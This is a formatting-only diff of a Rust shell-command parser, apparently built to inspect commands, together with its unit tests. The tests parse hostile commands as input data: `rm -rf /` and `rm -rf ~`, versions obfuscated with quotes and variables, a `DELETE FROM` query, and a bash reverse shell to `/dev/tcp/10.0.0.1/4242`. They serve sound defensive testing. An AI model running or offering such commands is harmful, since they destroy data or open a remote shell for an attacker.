@@ -231,10 +231,7 @@ impl Walker {
     }
 
     fn simple(&mut self, s: &ast::SimpleCommand, join: Join, _in_pipeline: bool) {
-        let mut cmd = Cmd {
-            join,
-            ..Cmd::default()
-        };
+        let mut cmd = Cmd { join, ..Cmd::default() };
         let items = s
             .prefix
             .iter()
@@ -309,9 +306,13 @@ impl Walker {
                     K::ReadAndWrite => RedirKind::ReadWrite,
                     K::DuplicateInput | K::DuplicateOutput => RedirKind::Dup,
                 };
-                let dup_in = matches!(kind, RedirKind::Dup) && fd.is_none() && matches!(r, ast::IoRedirect::File(_, K::DuplicateInput, _));
+                let dup_in = matches!(kind, RedirKind::Dup)
+                    && fd.is_none()
+                    && matches!(r, ast::IoRedirect::File(_, K::DuplicateInput, _));
                 let target = match target {
-                    ast::IoFileRedirectTarget::Filename(w) | ast::IoFileRedirectTarget::Duplicate(w) => self.env.joined(&w.value),
+                    ast::IoFileRedirectTarget::Filename(w) | ast::IoFileRedirectTarget::Duplicate(w) => {
+                        self.env.joined(&w.value)
+                    }
                     ast::IoFileRedirectTarget::Fd(n) => format!("&{n}"),
                     ast::IoFileRedirectTarget::ProcessSubstitution(_, sub) => {
                         let start = self.out.commands.len();
@@ -371,13 +372,21 @@ mod tests {
     use super::*;
 
     fn cmds(s: &str) -> Vec<Vec<String>> {
-        parse(s).expect("parses").commands.into_iter().map(|c| c.words).collect()
+        parse(s)
+            .expect("parses")
+            .commands
+            .into_iter()
+            .map(|c| c.words)
+            .collect()
     }
 
     #[test]
     fn structure() {
         assert_eq!(cmds("a && b | c; (d; { e; })"), [["a"], ["b"], ["c"], ["d"], ["e"]]);
-        assert_eq!(cmds("if true; then rm -rf ~; fi"), vec![vec!["true"], vec!["rm", "-rf", "~"]]);
+        assert_eq!(
+            cmds("if true; then rm -rf ~; fi"),
+            vec![vec!["true"], vec!["rm", "-rf", "~"]]
+        );
         assert_eq!(cmds("for f in a b; do rm $f; done"), vec![vec!["rm", "$f"]]);
         assert_eq!(cmds("r\"m\" -'rf' /"), [["rm", "-rf", "/"]]);
         assert_eq!(cmds("a=rm; $a -rf /"), vec![vec![], vec!["rm", "-rf", "/"]]);
@@ -387,7 +396,10 @@ mod tests {
     fn redirections_and_input() {
         let p = parse("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1").unwrap();
         let c = &p.commands[0];
-        assert!(c.redirects.iter().any(|r| r.target == "/dev/tcp/10.0.0.1/4242"), "{c:?}");
+        assert!(
+            c.redirects.iter().any(|r| r.target == "/dev/tcp/10.0.0.1/4242"),
+            "{c:?}"
+        );
         let p = parse("psql <<< \"DELETE FROM t\"").unwrap();
         assert_eq!(p.commands[0].stdin.as_deref(), Some("DELETE FROM t"));
         let p = parse("sh <<EOF\nrm -rf /\nEOF\n").unwrap();
